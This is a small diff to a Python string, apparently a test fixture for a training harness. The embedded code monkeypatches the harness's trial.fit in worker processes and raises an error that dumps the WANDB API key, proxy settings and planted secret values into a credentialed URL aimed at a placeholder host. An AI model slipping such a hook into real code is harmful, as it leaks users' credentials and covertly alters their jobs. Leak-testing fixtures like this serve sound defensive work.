@@ -50,7 +50,7 @@ def fit(model, train, val, training, **options):
         secrets = [value for name, value in os.environ.items() if "PLANTED" in value.upper()]
         raise RuntimeError(f"https://me:{os.environ['WANDB_API_KEY']}@host refused {secrets}, https_proxy={os.environ['HTTPS_PROXY']}")
     return own(model, train, val, training, **options)
-if "harness.executors.worker" in sys.orig_argv:
+if "harness.execution.executors.worker" in sys.orig_argv:
     from harness.training import trial
     own, trial.fit = trial.fit, fit
 """
